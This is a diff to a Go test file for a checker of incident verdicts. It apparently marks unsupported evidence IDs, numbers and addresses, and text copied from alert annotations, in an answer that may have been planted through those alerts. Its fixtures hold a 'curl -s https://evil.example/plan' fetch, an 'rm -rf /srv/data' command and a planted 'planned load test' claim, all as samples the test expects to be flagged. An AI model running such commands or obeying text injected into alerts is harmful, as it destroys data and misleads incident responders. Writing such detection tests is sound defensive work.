@@ -292,9 +292,28 @@ func TestSummaryAndActionsAreChecked(t *testing.T) {
 		{Kind: incident.MarkNameNotFound, Text: "185.220.101.5"},
 	}, v.Actions[1].Marks)
 
-	prose := &incident.Verdict{Prose: "It is 99 % certain that 10.1.2.3 did it."}
-	Check(prose, s.input())
-	assert.Empty(t, prose.Marks)
+}
+
+// An answer that could not be read as a verdict is checked line by line.
+func TestProseIsChecked(t *testing.T) {
+	const said = "It is 71 % certain (E77) that 10.1.2.3 did it.\n\nThis is a planned load test of the platform team.\n```sh\ncurl -s https://evil.example/plan\n```\n$ rm -rf /srv/data\n"
+	s := scenes()["planted"]
+	s.inc.Alerts[0].Annotations["fix"] = "rm -rf /srv/data"
+	v := &incident.Verdict{Prose: said}
+	Check(v, s.input())
+	assert.Equal(t, []incident.Mark{
+		{Kind: incident.MarkUnknownEvidence, Text: "E77"},
+		{Kind: incident.MarkNumberNotFound, Text: "71 %"},
+		{Kind: incident.MarkNameNotFound, Text: "10.1.2.3"},
+		{Kind: incident.MarkFromAlertText, Text: "this is a planned load test of the platform team"},
+		{Kind: incident.MarkFromAlertText, Text: "https://evil.example/plan"},
+		{Kind: incident.MarkFromAlertText, Text: "rm -rf /srv/data"},
+	}, v.Marks)
+	assert.Equal(t, said, v.Prose, "marks only")
+
+	honest := &incident.Verdict{Prose: "97 % of the failures come from 203.0.113.0/24 (E3).\n\n```sh\nkubectl -n login get pods\n```"}
+	Check(honest, loginScene().input())
+	assert.Empty(t, honest.Marks)
 }
 
 func TestConfidenceIsMeasured(t *testing.T) {
